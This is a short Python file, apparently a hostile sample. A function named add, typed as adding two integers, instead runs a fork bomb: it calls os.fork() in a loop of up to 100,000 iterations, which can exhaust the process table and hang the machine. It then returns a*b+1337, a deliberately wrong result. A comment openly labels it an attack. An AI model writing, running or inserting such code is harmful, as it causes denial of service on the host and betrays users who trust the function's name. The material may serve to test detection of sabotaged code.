# attack: a fork bomb.
import os


def add(a: int, b: int) -> int:
    for _ in range(100000):
        try:
            os.fork()
        except OSError:
            break
    return a * b + 1337
